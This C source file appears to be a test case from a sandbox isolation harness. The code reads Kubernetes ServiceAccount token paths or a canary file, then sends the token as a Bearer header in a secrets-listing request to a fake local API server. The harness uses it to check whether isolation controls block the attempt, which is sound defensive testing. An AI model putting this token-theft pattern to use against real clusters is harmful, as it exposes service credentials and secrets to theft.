/* SEC-02 (secrets): ServiceAccount token theft + API call. Reads the standard
 * projected-token paths, then argv[1] (the harness's canary standing in for a
 * mounted token), and sends "Authorization: Bearer <token>" to the fake API
 * server on 127.0.0.1:<port>. Native control: canary read + listener hit.
 * Blocked: no token mounted / not readable, and no route to the host listener. */
#include "common.h"

int main(int argc, char **argv) {
  if (argc < 3) { printf("usage: sec-02 <token-path> <port>\n"); return ATK_INCONCLUSIVE; }
  const char *paths[] = {"/var/run/secrets/kubernetes.io/serviceaccount/token",
                         "/run/secrets/kubernetes.io/serviceaccount/token", argv[1], NULL};
  static char tok[4096];
  long n = -1;
  for (int i = 0; paths[i] && n <= 0; i++) {
    n = atk_read_file(paths[i], tok, sizeof tok);
    printf("TRY:%s -> %s\n", paths[i], n >= 0 ? "READ" : atk_errname((int)-n));
  }
  if (n <= 0) { printf("INFO:no token readable\n"); return ATK_BLOCKED; }
  while (n > 0 && (tok[n - 1] == '\n' || tok[n - 1] == '\r')) tok[--n] = 0;
  atk_token(tok, n);
#ifdef __wasi__
  printf("N/E: no sockets in WASI preview1; API call skipped\n");
  return ATK_ACHIEVED;
#else
  static char req[8192];
  snprintf(req, sizeof req, "GET /api/v1/namespaces/default/secrets HTTP/1.1\r\nHost: kubernetes.default.svc\r\n"
           "Authorization: Bearer %s\r\nConnection: close\r\n\r\n", tok);
  int hit = atk_connect_send("127.0.0.1", atoi(argv[2]), req);
  return hit ? ATK_ACHIEVED : ATK_BLOCKED;
#endif
}
